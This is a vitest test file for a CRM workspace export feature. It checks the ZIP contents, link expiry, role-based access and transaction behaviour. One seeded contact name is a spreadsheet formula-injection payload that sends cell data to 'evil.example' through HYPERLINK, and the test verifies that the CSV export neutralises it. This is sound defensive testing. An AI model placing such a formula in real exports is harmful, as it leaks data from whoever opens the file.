import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import yauzl from 'yauzl';
import type { WorkspaceExport } from '@leadtrail/contracts';
import { createTestApp, signUp, uniqueEmail, type TestContext } from '../../../test/helpers.js';
import { addTeammate } from '../../../test/team-helpers.js';
import { jobContext } from '../../core/request-context.js';
import { newUnitTally, unitTally } from '../../core/unit-tally.js';
import { createLocalStorage, type FileStorage } from '../../lib/storage/storage.js';
import { createPrivacyRepository } from './privacy.repository.js';
import { createPrivacyService } from './privacy.service.js';

/**
 * Workspace export (issue 15): the job writes a ZIP of CSV + JSON with a README; unzipped with a
 * library, every CSV parses and its rows match the workspace's rows; the link works for 24 hours,
 * for owners and admins of the workspace only.
 */
let t: TestContext;
type Who = Awaited<ReturnType<typeof signUp>>;

beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t?.close();
});

/** Every entry of a ZIP, as text. */
function unzip(buf: Buffer): Promise<Map<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buf, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err ?? new Error('no zip'));
      const out = new Map<string, string>();
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e ?? new Error('no stream'));
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
            zip.readEntry();
          });
          stream.on('error', reject);
        });
      });
      zip.on('end', () => resolve(out));
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

async function waitReady(who: Who, id: string): Promise<WorkspaceExport> {
  const end = Date.now() + 30_000;
  for (;;) {
    const res = await who.request({ method: 'GET', url: `/api/v1/privacy/exports/${id}` });
    expect(res.statusCode, res.body).toBe(200);
    const e = res.json() as WorkspaceExport;
    if (e.status === 'ready' || e.status === 'failed') return e;
    if (Date.now() > end) throw new Error(`export still ${e.status}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

async function seed(who: Who) {
  const post = async (url: string, payload: object) => {
    const res = await who.request({ method: 'POST', url, payload });
    expect(res.statusCode, res.body).toBeLessThan(300);
    return res.json() as { id: string };
  };
  await post('/api/v1/custom-fields', { entity: 'contacts', label: 'Tier', type: 'text' });
  const company = await post('/api/v1/companies', { name: 'Acme, "Quoted" Inc', domain: 'acme-export.example' });
  const ids: string[] = [];
  for (let i = 0; i < 7; i++) {
    const c = await post('/api/v1/contacts', {
      // a formula: it must not run when contacts.csv is opened in a spreadsheet (issue 27, finding 8)
      firstName: i === 1 ? FORMULA : `Ann ${i}`,
      lastName: i === 0 ? 'Line\nBreak' : 'Doe',
      email: uniqueEmail(`export${i}`),
      companyId: company.id,
      customFields: { tier: i % 2 ? 'gold' : 'silver' },
    });
    ids.push(c.id);
  }
  const list = await post('/api/v1/lists', { name: 'Export list', entity: 'contacts' });
  await post(`/api/v1/lists/${list.id}/members`, { ids: ids.slice(0, 3) });
  await post(`/api/v1/contacts/${ids[0]}/notes`, { body: 'A note, with "quotes"' });
  await post('/api/v1/suppressions', { entries: [{ value: 'competitor-export.example' }] });
  // a paid credit pack: an invoice (sandbox card) and a ledger grant
  const year = new Date().getUTCFullYear() + 2;
  await post('/api/v1/payment-methods', { number: '4242424242424242', expMonth: 12, expYear: year, cvc: '123' });
  await post('/api/v1/credit-packs/pack_1000/purchase', {});
}

const count = async (sql: string, ws: string) => Number((await t.db.pool.query<{ n: string }>(sql, [ws])).rows[0]!.n);

describe('workspace export', () => {
  it('writes a ZIP whose CSV and JSON files hold every row of the workspace, with a README', async () => {
    const owner = await signUp(t.app);
    const ws = owner.me.workspace.id;
    await seed(owner);
    // another workspace's rows never appear
    await seed(await signUp(t.app));

    const started = await owner.request({ method: 'POST', url: '/api/v1/privacy/exports' });
    expect(started.statusCode, started.body).toBe(202);
    const { id, status } = started.json() as { id: string; status: string };
    expect(['queued', 'running', 'ready']).toContain(status);
    const done = await waitReady(owner, id);
    expect(done.status).toBe('ready');
    expect(done.progress).toBe(1);
    expect(done.downloadUrl).toBe(`/api/v1/privacy/exports/${id}/download`);
    expect(new Date(done.expiresAt!).getTime() - new Date(done.finishedAt!).getTime()).toBe(24 * 3600 * 1000);

    const res = await owner.request({ method: 'GET', url: done.downloadUrl! });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    const files = await unzip(res.rawPayload);
    expect(files.get('README.txt')).toContain('Leadtrail workspace export');
    expect(files.get('README.txt')).toContain('starts with an apostrophe');

    const expected: Record<string, number> = {
      contacts: await count('select count(*) as n from contacts where workspace_id = $1', ws),
      companies: await count('select count(*) as n from companies where workspace_id = $1', ws),
      'custom-fields': await count('select count(*) as n from custom_fields where workspace_id = $1', ws),
      lists: await count('select count(*) as n from lists where workspace_id = $1', ws),
      'list-members': await count('select count(*) as n from list_contacts where workspace_id = $1', ws),
      notes: await count('select count(*) as n from notes where workspace_id = $1', ws),
      members: await count('select count(*) as n from members where workspace_id = $1', ws),
      'suppression-list': await count('select count(*) as n from suppressions where workspace_id = $1', ws),
      imports: await count('select count(*) as n from imports where workspace_id = $1', ws),
      'credit-ledger': await count('select count(*) as n from credit_ledger where workspace_id = $1', ws),
      invoices: await count('select count(*) as n from invoices where workspace_id = $1', ws),
      'audit-log': await count('select count(*) as n from audit_log where workspace_id = $1', ws),
    };
    expect(expected.contacts).toBe(7);
    expect(expected['list-members']).toBe(3);
    expect(expected.invoices).toBe(1);
    for (const [name, n] of Object.entries(expected)) {
      const csv = files.get(`${name}.csv`);
      expect(csv, name).toBeDefined();
      const parsed = Papa.parse<Record<string, string>>(csv!.replace(/^\ufeff/, ''), {
        header: true,
        skipEmptyLines: true,
      });
      expect(parsed.errors, name).toEqual([]);
      expect(parsed.data.length, name).toBe(n);
      const json = JSON.parse(files.get(`${name}.json`)!) as unknown[];
      expect(json.length, name).toBe(n);
    }
    // values survive the round trip (quotes, line breaks, custom fields as JSON)
    const contacts = Papa.parse<Record<string, string>>(files.get('contacts.csv')!.replace(/^\ufeff/, ''), {
      header: true,
    }).data;
    expect(contacts.map((c) => c.last_name)).toContain('Line\nBreak');
    // text neutralised as every other export does (a leading apostrophe); the JSON keeps the value
    expect(contacts.map((c) => c.first_name)).toContain(`'${FORMULA}`);
    expect(contacts.map((c) => c.first_name)).not.toContain(FORMULA);
    expect(JSON.parse(contacts[0]!.custom_fields!)).toHaveProperty('tier');
    expect(Object.keys(contacts[0]!)).not.toContain('workspace_id');
    // PostgreSQL formats the rows: the same values a JavaScript reader of the rows would print
    const contactsJson = JSON.parse(files.get('contacts.json')!) as Record<string, unknown>[];
    const db = await t.db.pool.query<{ id: string; created_at: Date; custom_fields: object }>(
      'select id, created_at, custom_fields from contacts where workspace_id = $1 order by id',
      [ws],
    );
    expect(contactsJson.map((c) => c.id)).toEqual(db.rows.map((r) => r.id));
    db.rows.forEach((r, i) => {
      expect(contactsJson[i]!.created_at).toBe(r.created_at.toISOString());
      expect(contacts[i]!.created_at).toBe(r.created_at.toISOString());
      expect(contactsJson[i]!.custom_fields).toEqual(r.custom_fields);
      expect(JSON.parse(contacts[i]!.custom_fields!)).toEqual(r.custom_fields);
    });
    expect(contactsJson[0]).not.toHaveProperty('workspace_id');
    expect(contactsJson.map((c) => c.first_name)).toContain(FORMULA);
    const ledger = JSON.parse(files.get('credit-ledger.json')!) as { amount: unknown; balance_after: unknown }[];
    expect(typeof ledger[0]!.amount).toBe('number');
    const fields = JSON.parse(files.get('custom-fields.json')!) as { required: unknown; archived_at: unknown }[];
    expect(fields[0]!.required).toBe(false);
    expect(fields[0]!.archived_at).toBeNull();
    const fieldsCsv = Papa.parse<Record<string, string>>(files.get('custom-fields.csv')!.replace(/^\ufeff/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(fieldsCsv[0]!.required).toBe('false');
    expect(fieldsCsv[0]!.archived_at).toBe('');
    const companies = JSON.parse(files.get('companies.json')!) as { name: string }[];
    expect(companies.map((c) => c.name)).toEqual(['Acme, "Quoted" Inc']);

    // the requester is mailed the link
    const mail = await t.mail.waitFor(owner.email);
    expect(mail).toContain(`/api/v1/privacy/exports/${id}/download`);
    // the audit log has the export
    expect(
      await count(
        `select count(*) as n from audit_log where workspace_id = $1 and action = 'privacy.workspace_export'`,
        ws,
      ),
    ).toBe(1);
  });

  it('stores the ZIP after the data sets are read and committed: no transaction idles while it zips, none opens inside another', async () => {
    // zipping in the transaction left it idle for the whole deflate: at a million contacts that
    // outlasts the pool's idle_in_transaction_session_timeout, which ended the session and the export
    const owner = await signUp(t.app);
    const ws = owner.me.workspace.id;
    await seed(owner);
    const real = createLocalStorage(path.join(t.config.dataDir, 'files'));
    // the reading transactions open while the ZIP is stored (counted on the unit of work itself: the
    // test database's pg_stat_activity also shows the other test files' transactions running beside this one)
    let reading = 0;
    const uow: typeof t.container.uow = {
      ...t.container.uow,
      async tenantClient(...args) {
        reading++;
        try {
          return await t.container.uow.tenantClient(...args);
        } finally {
          reading--;
        }
      },
    };
    const openWhileStoring: number[] = [];
    const storage: FileStorage = {
      ...real,
      async write(key, source) {
        openWhileStoring.push(reading);
        return real.write(key, source);
      },
    };
    const service = createPrivacyService({
      uow,
      repo: createPrivacyRepository(),
      storage,
      suppressions: t.container.suppressions,
      account: t.container.account,
      contacts: t.container.contacts,
      prospects: t.container.prospects,
      audit: null,
      queue: () => async () => {}, // run below, awaited
      mailer: t.container.mailer,
      appUrl: 'http://localhost:3000',
      log: { error: () => {} },
    });
    const ctx = jobContext({ userId: owner.me.user.id, workspaceId: ws, memberId: owner.me.member.id, role: 'owner' });
    const { id } = await service.startExport(ctx);
    // the job's units counted as a request's are: one opened inside another (a second connection
    // while the data set's is held, as the progress once was) would be noted (decision 0039)
    const tally = newUnitTally();
    await unitTally.run(tally, () => service.runExport(ws, id));
    expect(tally.nested).toBe(0);
    expect(tally.opened.filter((k) => k === 'tenantClient').length).toBeGreaterThan(1);
    const done = await service.getExport(ctx, id);
    expect(done.status).toBe('ready');
    expect(done.rowsDone).toBe(done.rowsTotal);
    expect(openWhileStoring).toEqual([0]);
    const files = await unzip(
      await new Promise<Buffer>((resolve, reject) => {
        const parts: Buffer[] = [];
        const stream = real.read(`exports/${ws}/${id}.zip`);
        stream.on('data', (c: Buffer) => parts.push(c));
        stream.on('end', () => resolve(Buffer.concat(parts)));
        stream.on('error', reject);
      }),
    );
    expect(JSON.parse(files.get('contacts.json')!)).toHaveLength(7);
  });

  it('stops the link after 24 hours (410) and answers 404 to another workspace', async () => {
    const owner = await signUp(t.app);
    const stranger = await signUp(t.app);
    const { id } = (await owner.request({ method: 'POST', url: '/api/v1/privacy/exports' })).json() as { id: string };
    await waitReady(owner, id);
    for (const url of [`/api/v1/privacy/exports/${id}`, `/api/v1/privacy/exports/${id}/download`]) {
      const res = await stranger.request({ method: 'GET', url });
      expect(res.statusCode, url).toBe(404);
    }
    await t.db.pool.query(`update workspace_exports set expires_at = now() - interval '1 minute' where id = $1`, [id]);
    const gone = await owner.request({ method: 'GET', url: `/api/v1/privacy/exports/${id}/download` });
    expect(gone.statusCode).toBe(410);
    expect(
      ((await owner.request({ method: 'GET', url: `/api/v1/privacy/exports/${id}` })).json() as WorkspaceExport)
        .downloadUrl,
    ).toBeNull();
  });

  it('answers the running export instead of a second one, unless it has been stuck for hours', async () => {
    const owner = await signUp(t.app);
    const ws = owner.me.workspace.id;
    const stuck = '0190f2c4-0000-7000-8000-000000000001';
    await t.db.pool.query(
      `insert into workspace_exports (workspace_id, id, requested_by, requested_by_user, status, created_at)
       values ($1, $2, $3, $4, 'running', now() - interval '1 hour')`,
      [ws, stuck, owner.me.member.id, owner.me.user.id],
    );
    const same = (await owner.request({ method: 'POST', url: '/api/v1/privacy/exports' })).json() as { id: string };
    expect(same.id).toBe(stuck);
    await t.db.pool.query(`update workspace_exports set created_at = now() - interval '7 hours' where id = $1`, [
      stuck,
    ]);
    const fresh = (await owner.request({ method: 'POST', url: '/api/v1/privacy/exports' })).json() as { id: string };
    expect(fresh.id).not.toBe(stuck);
    expect((await waitReady(owner, fresh.id)).status).toBe('ready');
    expect(
      ((await owner.request({ method: 'GET', url: `/api/v1/privacy/exports/${stuck}` })).json() as WorkspaceExport)
        .status,
    ).toBe('failed');
  });

  it('lets an admin export and refuses a member (403)', async () => {
    const owner = await signUp(t.app);
    const admin = await addTeammate(t, owner.request, 'admin');
    const member = await addTeammate(t, owner.request, 'member');
    const started = await admin.request({ method: 'POST', url: '/api/v1/privacy/exports' });
    expect(started.statusCode).toBe(202);
    const { id } = started.json() as { id: string };
    await waitReady(admin, id);
    expect((await member.request({ method: 'POST', url: '/api/v1/privacy/exports' })).statusCode).toBe(403);
    expect((await member.request({ method: 'GET', url: '/api/v1/privacy/exports' })).statusCode).toBe(403);
    expect((await member.request({ method: 'GET', url: `/api/v1/privacy/exports/${id}` })).statusCode).toBe(403);
    expect((await member.request({ method: 'GET', url: `/api/v1/privacy/exports/${id}/download` })).statusCode).toBe(
      403,
    );
    const list = (await owner.request({ method: 'GET', url: '/api/v1/privacy/exports' })).json() as {
      data: WorkspaceExport[];
    };
    expect(list.data.map((e) => e.id)).toEqual([id]);
  });
});
